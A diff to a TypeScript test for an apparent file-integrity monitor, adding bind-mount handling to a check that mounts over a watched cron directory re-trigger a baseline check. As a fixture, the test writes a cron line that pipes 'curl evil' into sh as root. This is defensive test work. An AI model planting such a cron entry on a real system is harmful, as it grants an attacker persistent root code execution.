@@ -161,13 +161,14 @@ test('a mount on a baseline directory re-checks the whole baseline: changes name
     });
     await tracking.start();
     const mounter = processInfo({ pid: 9, tid: 9, comm: { text: 'mount' } });
-    const mountEvent = (kind: 'new' | 'remount') =>
-      fileEvent({ operation: 'mount', path: { text: cron }, mode: 0o040755, process: mounter, mount: { kind, flags: [], fstype: 'tmpfs', source: { text: 'x' }, beforeOp: false } });
+    const mountEvent = (kind: 'new' | 'remount' | 'bind', sourceWatched = false) =>
+      fileEvent({ operation: 'mount', path: { text: cron }, mode: 0o040755, process: mounter, mount: { kind, flags: [], fstype: 'tmpfs', source: { text: 'x' }, beforeOp: false, sourceWatched } });
     // what a tmpfs over the directory shows instead (no event reaches the tracker for it)
     writeFileSync(join(cron, 'job'), '* * * * * root curl evil | sh\n');
     tracking.consume(mountEvent('remount'));
+    tracking.consume(mountEvent('bind', true));
     await new Promise((r) => setTimeout(r, 700));
-    assert.not.ok(output.records.some((r) => r.type === 'change'), 'a remount shows the same files');
+    assert.not.ok(output.records.some((r) => r.type === 'change'), 'a remount shows the same files, a watched tree bound elsewhere changes no watched name');
     tracking.consume(mountEvent('new'));
     const end = Date.now() + 5000;
     while (!output.records.some((r) => r.type === 'change') && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
